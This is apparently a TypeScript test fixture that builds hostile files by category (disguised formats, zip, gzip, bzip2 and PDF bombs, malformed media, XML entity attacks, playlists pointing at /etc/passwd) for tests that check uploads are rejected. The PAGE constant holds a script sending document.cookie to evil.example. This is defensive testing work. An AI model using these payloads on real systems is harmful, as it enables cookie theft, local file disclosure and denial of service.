/**
 * Hostile files by category. Every entry point for files has a table test over its categories. It must reject each file unless the table
 * states otherwise. A file that is added here is therefore tested at all of these entry points.
 */
import sharp from "sharp";

import { pngOf } from "../png.ts";
import { be, box, bytesOf } from "../file-parts.ts";
import { docxOf, gzipOf, LAUGHS, nested, OUTSIDE, pdfBomb, pdfOfPages, wordText, zipOf } from "./documents.ts";
import { mp4, mp4OfBillions, soundTrack } from "./films.ts";
import {
  animatedGif,
  animatedWebp,
  bmpOf,
  jpegOfScans,
  jpegWithComment,
  pngOfGigabytes,
  pngOfPixels,
  pngWithBomb,
  pngWithoutData,
  svgOf,
} from "./pictures.ts";
import { matroskaOfHugeSizes, matroskaOfNests, wav } from "./sounds.ts";

type FileBytes = Uint8Array | Promise<Uint8Array>;

/** URL at which no server listens. */
const NOBODY = "http://127.0.0.1:9/x";
export const PAGE = "<!doctype html><script>fetch('//evil.example/'+document.cookie)</script>";
const PICTURE = pngOf(64, 64);
const JPEG = await sharp(PICTURE).jpeg().toBuffer();
const WEBP = await sharp(PICTURE).webp({ lossless: true }).toBuffer();
const ZIP = zipOf({ "a.txt": "x" });
/** Number of bytes above the maximum that a run may decompress. */
const UNPACKED = 300_000_000;

/** 300 million zeros, compressed with bzip2 1.0.8. */
const BZIP2_BOMB =
  "QlpoOTFBWSZTWQ4J4t8BX45AAMAAAAggADCATUZCoCWpCoCXMUFZJlNZDgni3wFfjkAAwAAACCAAMIBNRkKgJakKgJcxQVkmU1kOCeLfAV+OQADAAAAIIAAwgE1GQqAlqQqAlzFBWSZTWQ4J4t8BX45AAMAAAAggADCATUZCoCWpCoCXMUFZJlNZDgni3wFfjkAAwAAACCAAMIBNRkKgJakKgJcxQVkmU1kOCeLfAV+OQADAAAAIIAAwgE1GQqAlqQqAlzFBWSZTWXcjn6wAvHRAIMAAEAAACCAAMMwJqmmqQqC2pSFQXi7kinChIQEEDIg=";

/** Returns playlists that make a player request this address. */
export function playlistsOf(target: string) {
  const here = "IN IP4 127.0.0.1";
  return {
    "a playlist": `#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\n${target}\n#EXTINF:10,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n`,
    "a list for joining": `ffconcat version 1.0\nfile '${target}'\nfile 'file:///etc/passwd'\n`,
    "a description of a session": `v=0\no=- 0 0 ${here}\ns=x\nu=${target}\nc=${here}\nt=0 0\nm=audio 5004 RTP/AVP 0\n`,
    "a PLS playlist": `[playlist]\nFile1=${target}\nNumberOfEntries=1\n`,
    "an XSPF playlist": `<?xml version="1.0"?><playlist><trackList><track><location>${target}</location></track></trackList></playlist>`,
  };
}

const PLAYLISTS = playlistsOf(NOBODY);

export const HOSTILE_FILES = {
  /** Files with another format than their name or media type states. */
  disguise: {
    nothing: () => Buffer.alloc(0),
    "a page": () => Buffer.from(PAGE),
    "a ZIP": () => ZIP,
    "an SVG": () => svgOf(NOBODY),
    "a playlist": () => Buffer.from(PLAYLISTS["a playlist"]),
    "a list for joining": () => Buffer.from(PLAYLISTS["a list for joining"]),
    "a description of a session": () => Buffer.from(PLAYLISTS["a description of a session"]),
    "a PLS playlist": () => Buffer.from(PLAYLISTS["a PLS playlist"]),
    "an XSPF playlist": () => Buffer.from(PLAYLISTS["an XSPF playlist"]),
    "a program": () => bytesOf("\u007fELF\u0002\u0001\u0001", Buffer.alloc(64)),
  },
  picture: {
    "a PNG of 900 million pixels": pngOfPixels,
    "a PNG without its 49 million pixels": () => pngWithoutData(7_000),
    "a WebP of 270 million pixels, animated": () => animatedWebp(WEBP, 10, 16_383),
    "a WebP larger than its own canvas": async () =>
      animatedWebp(await sharp(pngOf(2_000, 2_000)).webp({ lossless: true }).toBuffer(), 200, 16),
    "a JPEG of twenty thousand scans": async () =>
      jpegOfScans(await sharp(pngOf(3_000, 3_000)).jpeg({ progressive: true }).toBuffer(), 20_000),
    "a PNG of no pixels": () => bytesOf(PICTURE.subarray(0, 16), Buffer.alloc(8), PICTURE.subarray(24)),
    "a PNG cut off": () => PICTURE.subarray(0, 60),
    "a JPEG cut off": () => JPEG.subarray(0, -40),
    "a JPEG of a head only": () => JPEG.subarray(0, 20),
    "a WebP cut off": () => WEBP.subarray(0, -10),
    "a PNG whose data go on for gigabytes": pngOfGigabytes,
    "a PNG whose colours are told in a gigabyte": () => pngWithBomb("iCCP"),
    "a PNG with a comment of a gigabyte": () => pngWithBomb("zTXt"),
    "a PNG with a text of a gigabyte": () => pngWithBomb("iTXt"),
    "a WebP of five thousand frames": () => animatedWebp(WEBP, 5_000, 64),
    "a JPEG with a page as its comment": () => jpegWithComment(JPEG, PAGE),
    "a JPEG that is a ZIP as well": () => bytesOf(JPEG, ZIP),
    "a PNG that is a page as well": () => bytesOf(PICTURE, PAGE),
    "a WebP that is a ZIP as well": () => bytesOf(WEBP, ZIP),
    "a GIF of five thousand pixels, one a frame": () => animatedGif(5_000),
    "a BMP of 900 million pixels": () => bmpOf(30_000, 30_000, 24, { pixels: Buffer.alloc(64) }),
    "a BMP without its 49 million pixels": () => bmpOf(7_000, 7_000, 24, { pixels: Buffer.alloc(64) }),
    "a BMP of no pixels": () => bmpOf(0, 0, 24),
    "a GIF of twenty gigapixels": () => animatedGif(5_000, 2_000),
  },
  sound: {
    "a WAV of no samples a second": () => wav({ rate: 0 }),
    "a WAV of a billion samples a second": () => wav({ rate: 1e9 }),
    "a WAV of 65535 channels": () => wav({ channels: 65_535 }),
    "a WAV of no channel": () => wav({ channels: 0 }),
    "a WAV of samples of no bits": () => wav({ bits: 0 }),
    "a WAV of samples of 8 KB": () => wav({ bits: 65_535 }),
    "a WAV of an unknown codec": () => wav({ code: 65_534 }),
    "a WAV of a codec that names its own rate": () => wav({ code: 0x161, byteRate: 1_000_000 }),
    "a WAV of ADPCM without blocks": () => wav({ code: 0x11, bits: 4, blockBytes: 0 }),
    "a WAV whose format goes on for 4 GB": () => wav({ formatBytes: 0xffff_fff0 }),
    "a WAV without data": () => wav().subarray(0, 36),
    "a FLAC that ends at once": () => bytesOf("fLaC", [0x80, 0, 0, 34]),
    "a CAF that ends at once": () => bytesOf("caff", [0, 1, 0, 0]),
    "a CAF of no samples a second": () =>
      bytesOf("caff", [0, 1, 0, 0], "desc", be(32, 8), be(0, 8), "lpcm", be(0, 4), be(2, 4), be(1, 4), be(1, 4), be(16, 4), "data", be(4, 8), be(0, 4)), // prettier-ignore
    "an AC-3 of a head only": () => bytesOf([0x0b, 0x77, 0, 0, 0x14, 0x40], Buffer.alloc(58)),
    "an Ogg of nothing known": () => bytesOf("OggS", Buffer.alloc(200)),
  },
  film: {
    "a film of no time": () => mp4({ frames: 30, ticks: 0 }),
    "a film without a clock": () => mp4({ frames: 30, timescale: 0 }),
    "a film without pixels": () => mp4({ frames: 30, width: 0 }),
    "a film without samples": () => mp4({ frames: 0 }),
    "a film of billions of pictures": () => mp4OfBillions(64, 64),
    "a film of billions of giant pictures": () => mp4OfBillions(65_535, 65_535),
    "a film of sound alone": () => bytesOf(box("ftyp", "M4A "), box("moov", soundTrack(99))),
    "a film with a box smaller than its head": () => bytesOf(box("ftyp", "isom"), [0, 0, 0, 7], "moov"),
    "a Matroska of elements of 2⁵⁶ bytes": matroskaOfHugeSizes,
    "a Matroska of endless nests": matroskaOfNests,
    "an FLV that ends at once": () => bytesOf("FLV", [1, 5, 0, 0, 0, 9, 0, 0, 0, 0]),
    "an FLV whose tag goes on for 16 MB": () => bytesOf("FLV", [1, 5, 0, 0, 0, 9, 0, 0, 0, 0, 9, 255, 255, 255], Buffer.alloc(64)), // prettier-ignore
    "an MPEG-TS of nothing but padding": () =>
      bytesOf(...Array<Buffer>(64).fill(bytesOf([0x47, 0x1f, 0xff, 0x10], Buffer.alloc(184, 0xff)))),
    "a Matroska that ends at once": () => bytesOf([0x1a, 0x45, 0xdf, 0xa3]),
  },
  document: {
    "a PDF of nothing": () => bytesOf("%PDF-1.7\n%%EOF"),
    "a PDF whose pages hold themselves": () => pdfOfPages("/Kids [2 0 R 2 0 R] /Count 5"),
    "a PDF whose page is its own parent": () =>
      pdfOfPages("/Parent 3 0 R /Kids [3 0 R] /Count 1", "<< /Type /Page /Parent 3 0 R >>"),
    "a PDF that claims endless pages": () => pdfOfPages("/Kids [] /Count 100000000"),
    "a PDF of an endless page": () =>
      pdfOfPages("/Kids [3 0 R] /Count 1", "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9999999 9999999] >>"),
    "a PDF whose drawing unpacks to too much": () => pdfBomb(200_000_000),
    "a document with a file in an entity": () => docxOf(wordText("&f;"), OUTSIDE),
    "a document of endless entities": () => docxOf(wordText("&a29;"), LAUGHS),
    "a document that unpacks to too much": () => docxOf(wordText("x".repeat(UNPACKED))),
    "a document that is nested too deep": () => docxOf(wordText(nested(200_000, "<w:x>", "</w:x>"))),
  },
  archive: {
    "a zip bomb": () => zipOf({ a: Buffer.alloc(UNPACKED) }),
    "a bzip2 bomb": () => Buffer.from(BZIP2_BOMB, "base64"),
    "an xz of nothing": () => bytesOf([0xfd, 0x37, 0x7a, 0x58, 0x5a, 0], Buffer.alloc(64)),
    "a gzip bomb": () => gzipOf(UNPACKED),
    "a zip behind a GIF's head": () => bytesOf("GIF89a", zipOf({})),
    "a zip without its end": () => ZIP.subarray(0, -10),
  },
} satisfies Readonly<Record<string, Readonly<Record<string, () => FileBytes>>>>;

export type Category = keyof typeof HOSTILE_FILES;
export type HostileName<C extends Category> = C extends Category ? keyof (typeof HOSTILE_FILES)[C] & string : never;

const generated = new Map<() => FileBytes, FileBytes>();

/**
 * Returns names and files of the categories in order, for table tests. Each file is created once, because some compress hundreds of
 * megabytes.
 */
export function hostileFiles<C extends Category>(
  ...categories: readonly C[]
): [name: HostileName<C>, make: () => FileBytes][] {
  const once = (make: () => FileBytes) => (): FileBytes => {
    const bytes = generated.get(make) ?? make();
    generated.set(make, bytes);
    return bytes;
  };
  return categories
    .flatMap((category) => Object.entries<() => FileBytes>(HOSTILE_FILES[category]))
    .map(([name, make]) => [name as HostileName<C>, once(make)]);
}
